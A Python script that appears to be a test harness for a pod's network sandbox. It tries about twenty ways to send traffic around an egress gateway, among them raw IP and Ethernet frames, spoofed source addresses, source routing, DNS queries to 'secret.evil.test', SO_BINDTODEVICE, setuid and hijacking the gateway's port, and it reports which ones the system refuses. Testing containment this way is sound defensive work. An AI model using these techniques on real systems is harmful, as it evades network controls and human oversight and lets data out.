"""Ways out of a pod that go around its gateway: escape.py WAY ADDRESS [PORT]. Says what the kernel or the other side answered."""
import os
import socket
import struct
import sys

way, address = sys.argv[1], sys.argv[2]
port = int(sys.argv[3]) if len(sys.argv) > 3 else 0
family = socket.AF_INET6 if ":" in address else socket.AF_INET
QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01"


def tcp(first=b"hello\r\n"):
    with socket.create_connection((address, port), 3) as conn:
        conn.settimeout(3)
        conn.sendall(first)
        return conn.recv(200)


def udp(data, kind=socket.SOCK_DGRAM, proto=0):
    with socket.socket(family, kind, proto) as sock:
        sock.settimeout(0.3)
        sock.sendto(data, (address, port))
        return sock.recv(200)


def fast_open():
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.sendto(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", 0x20000000, (address, port))
        return sock.recv(200)


def raw(proto):
    with socket.socket(family, socket.SOCK_RAW, proto) as sock:
        sock.sendto(b"\x08\x00" + b"\x00" * 30, (address, 0))
        return b"sent"


def ping():
    with socket.socket(family, socket.SOCK_DGRAM, 58 if family == socket.AF_INET6 else 1) as sock:
        sock.settimeout(0.3)
        echo = 128 if family == socket.AF_INET6 else 8
        sock.sendto(bytes([echo, 0]) + b"\x00" * 6 + b"secret", (address, 0))
        return sock.recv(200)


def frame():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as sock:
        sock.bind(("eth0", 0))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, socket.inet_aton("10.199.0.2"), socket.inet_aton(address))
        sock.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x00" + ip + struct.pack("!HHHH", 999, 443, 8, 0))
        return b"sent"


def become(change, who):
    change(who)
    return tcp()


def mark():
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, 36, 1)
        sock.settimeout(3)
        sock.connect((address, port))
        return b"connected"


def borrowed(kind):
    """In somebody else's name to ourselves, and back: the way back looks like an answer."""
    freebind = (41, 78) if family == socket.AF_INET6 else (0, 15)
    here = "fd99::2" if family == socket.AF_INET6 else "10.199.0.2"
    with socket.socket(family, kind) as mine, socket.socket(family, kind) as theirs:
        theirs.setsockopt(*freebind, 1)
        theirs.bind((address, 6000))
        mine.bind((here, 5000))
        if kind == socket.SOCK_STREAM:
            mine.listen()
            theirs.settimeout(1)
            theirs.connect((here, 5000))
            return b"connected"
        theirs.sendto(b"hello", (here, 5000))
        mine.sendto(b"secret for evil", (address, 6000))
        return b"sent"


def source_route():
    """To ourselves, by way of the place: loose source routing (RFC 791), segment routing (RFC 8754)."""
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        if family == socket.AF_INET:
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(address) + b"\x00")
            sock.sendto(b"secret for evil", ("127.0.0.1", port))
        else:
            segments = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(family, address)
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, segments)
            sock.sendto(b"secret for evil", ("::1", port))
        return b"sent"


def mptcp():
    with socket.socket(family, socket.SOCK_STREAM, 262) as sock:
        sock.settimeout(3)
        sock.connect((address, port))
        sock.sendall(b"hello\r\n")
        return sock.recv(200)


def mapped():
    """IPv4 by a socket of IPv6."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"secret for evil", ("::ffff:" + address, port))
        return b"sent"


def by_device(kind):
    """Out by the interface, whatever address it is for: loopback's own too, and what the redirect makes loopback's."""
    with socket.socket(family, kind) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        sock.settimeout(0.5)
        if kind == socket.SOCK_DGRAM:
            sock.sendto(b"secret for evil", (address, port))
            return b"sent"
        sock.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE: data in the first packet
        sock.sendto(b"secret for evil", 0x20000000, (address, port))
        return sock.recv(200)


def held():
    """A connection that was opened before: says so, waits for a line, and goes on talking."""
    with socket.create_connection((address, port), 3) as conn:
        conn.settimeout(3)
        print("open", flush=True)
        sys.stdin.readline()
        conn.sendall(b"evil is said on an old connection\r\n")
        conn.recv(200)
        conn.sendall(b"evil again\r\n")
        return conn.recv(200)


def stolen():
    """Serves in the gateway's place."""
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.bind(("::", port))
        sock.listen()
        return b"listening"


WAYS = {
    "tcp": tcp,
    "held": held,
    "udp": lambda: udp(b"secret for evil"),
    "udplite": lambda: udp(b"secret for evil", socket.SOCK_DGRAM, 136),
    "sctp": lambda: udp(b"secret for evil", socket.SOCK_SEQPACKET, 132),
    "dns": lambda: udp(QUERY),
    "dns-tcp": lambda: tcp(struct.pack("!H", len(QUERY)) + QUERY),
    "fast-open": fast_open,
    "raw-icmp": lambda: raw(1),
    "raw-ip": lambda: raw(255),
    "ping": ping,
    "frame": frame,
    "setuid": lambda: become(os.setuid, 0),
    "setgid": lambda: become(os.setgid, 7777),
    "mark": mark,
    "borrowed-udp": lambda: borrowed(socket.SOCK_DGRAM),
    "borrowed-tcp": lambda: borrowed(socket.SOCK_STREAM),
    "source-route": source_route,
    "mptcp": mptcp,
    "mapped": mapped,
    "device-udp": lambda: by_device(socket.SOCK_DGRAM),
    "device-tcp": lambda: by_device(socket.SOCK_STREAM),
    "steal": stolen,
}
try:
    print("answered", WAYS[way]())
except OSError as error:
    print(f"refused: {error.strerror or error}")
